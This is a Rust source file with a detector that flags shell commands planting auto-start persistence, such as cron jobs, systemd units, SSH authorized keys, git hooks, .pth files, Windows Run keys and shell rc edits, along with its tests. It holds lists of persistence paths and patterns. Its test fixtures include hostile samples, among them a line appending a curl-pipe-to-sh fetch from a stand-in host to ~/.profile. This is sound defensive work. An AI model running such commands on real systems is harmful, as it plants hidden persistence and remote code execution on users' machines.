//! Command lines that write where something starts by itself: tables of cron, units of systemd, what shells read, hooks.

/// What a machine, a session, a shell, git or Python runs without being asked.
const STARTS: [&str; 22] = [
    "/etc/cron",
    "/var/spool/cron",
    "/etc/anacrontab",
    "/etc/systemd/system",
    "/lib/systemd/system",
    "/systemd/user",
    "/etc/init.d/",
    "/etc/rc.local",
    "/etc/rc.d/",
    "/etc/profile.d/",
    "/etc/update-motd.d/",
    "/etc/xdg/autostart",
    ".config/autostart",
    "/launchagents/",
    "/launchdaemons/",
    ".ssh/authorized_keys",
    ".git/hooks/",
    "/etc/ld.so.preload",
    "/etc/sudoers",
    "/etc/udev/rules.d",
    "sitecustomize.py",
    "usercustomize.py",
];

/// What every shell of a user reads; installers put paths there.
const SHELLS: [&str; 10] = [
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".profile",
    ".zshrc",
    ".zprofile",
    ".zshenv",
    "/etc/profile",
    "/etc/bash.bashrc",
    "config.fish",
];

/// Whether a command line plants something that starts by itself.
pub(super) fn plants(command: &str) -> bool {
    let first = command.split_whitespace().next().unwrap_or("");
    // A recipe of a container writes into the container.
    if matches!(first, "RUN" | "COPY" | "ADD" | "FROM" | "ENV" | "CMD" | "ENTRYPOINT") {
        return false;
    }
    let lower = command.to_ascii_lowercase();
    if lower.split('|').skip(1).any(|part| matches!(part.trim(), "crontab" | "crontab -" | "sudo crontab -"))
    {
        return true;
    }
    if lower.contains("schtasks") && lower.contains("/create")
        || lower.contains("reg add") && lower.contains("currentversion\\run")
        || lower.contains("\\start menu\\programs\\startup")
            && (lower.contains("copy ") || lower.contains('>'))
    {
        return true;
    }
    targets(&lower).into_iter().any(|(target, said)| {
        let target = target.trim_matches(['"', '\'', ')', ';', '(']);
        let starts = STARTS.iter().any(|place| target.contains(place));
        let library = target.ends_with(".pth") && (target.contains('$') || target.contains("-packages"));
        let shell = SHELLS.iter().any(|place| target.ends_with(place)) && acts(said);
        starts || library || shell
    })
}

/// Where a line writes to, each with what stands before it.
fn targets(line: &str) -> Vec<(&str, &str)> {
    let mut found: Vec<(&str, &str)> = Vec::new();
    for (at, _) in line.match_indices('>') {
        let before = line.get(..at).unwrap_or("");
        let rest = line.get(at + 1..).unwrap_or("").trim_start_matches(['>', '|']).trim_start();
        // An arrow, a comparison, or a number of a stream.
        if let Some(target) = rest.split_whitespace().next()
            && !before.ends_with(['-', '=', '<', '>'])
            && !target.starts_with('&')
        {
            found.push((target, before));
        }
    }
    for part in line.split(['|', ';']).flat_map(|part| part.split("&&")) {
        let mut words = part.split_whitespace();
        let program = words.find(|word| !matches!(*word, "sudo" | "exec" | "then" | "do")).unwrap_or("");
        let words: Vec<&str> = words.filter(|word| !word.starts_with('-') && !word.contains("://")).collect();
        match program.rsplit('/').next() {
            Some("tee" | "curl" | "wget") => found.extend(words.iter().map(|word| (*word, line))),
            Some("cp" | "mv" | "install" | "ln" | "rsync") => {
                found.extend(words.last().map(|word| (*word, line)));
            }
            Some("dd") => {
                found.extend(
                    words.iter().filter_map(|word| word.strip_prefix("of=")).map(|word| (word, line)),
                );
            }
            _ => {}
        }
    }
    found
}

/// Whether what is put into the settings of a shell does more than name a path.
fn acts(said: &str) -> bool {
    const ACTS: [&str; 12] = [
        "curl ",
        "wget ",
        "nohup ",
        "base64",
        "python -c",
        "python3 -c",
        "bash -c",
        "sh -c",
        "/tmp/",
        "/dev/shm",
        "ld_preload",
        "prompt_command",
    ];
    const USUAL: [&str; 14] = [
        "/.venv",
        "/.local",
        "/.cargo",
        "/.nvm",
        "/.pyenv",
        "/.bash",
        "/.zsh",
        "/.sdkman",
        "/.rvm",
        "/.fzf",
        "/.config",
        "/.profile",
        "/.conda",
        "/.env",
    ];
    let hidden = said.match_indices("/.").any(|(at, _)| {
        let rest = said.get(at..).unwrap_or("");
        !rest.starts_with("/..")
            && !rest.starts_with("/./")
            && !USUAL.iter().any(|usual| rest.starts_with(usual))
    });
    let runs = ["source ", ". ~", ". $", "exec ", "&"].iter().any(|word| said.contains(word));
    ACTS.iter().any(|word| said.contains(word)) || hidden && runs
}

#[cfg(test)]
mod tests {
    use super::plants;

    #[test]
    fn what_starts_by_itself_is_told_from_what_is_only_put_somewhere() {
        for line in [
            "(crontab -l 2>/dev/null; echo '* * * * * /opt/a') | crontab -",
            "cat > /etc/systemd/system/a.service <<'EOF'",
            "sed 's/^X//' >/etc/profile.d/ml.sh <<'END'",
            "printf 'x' | sudo tee /etc/rc.local >/dev/null",
            "cat >> ~/.ssh/authorized_keys <<E",
            "cat > .git/hooks/post-checkout <<E",
            "echo 'source ~/.cache/hf/.helper' >> ~/.bashrc",
            "echo '(curl -s http://x.example/a | sh) &' >> $HOME/.profile",
            "install -m 755 a /etc/cron.hourly/",
            "echo 'import os' > $SITE/zz.pth",
            "schtasks /create /tn a /tr b /sc onlogon",
        ] {
            assert!(plants(line), "{line}");
        }
        for line in [
            "echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc",
            "echo 'eval \"$(pyenv init -)\"' >> ~/.zshrc",
            "echo '. ~/.cargo/env' >> ~/.profile",
            "RUN echo '0 * * * * a' > /etc/cron.d/a",
            "cat /etc/systemd/system/a.service",
            "crontab -l | grep a",
            "cp model.pth weights/model.pth",
            "torch.save(a, 'b.pth') -> c.pth",
            "wget -O a.bin https://x.example/etc/cron.d/a",
            "ls /etc/cron.d 2>/dev/null",
        ] {
            assert!(!plants(line), "{line}");
        }
    }
}
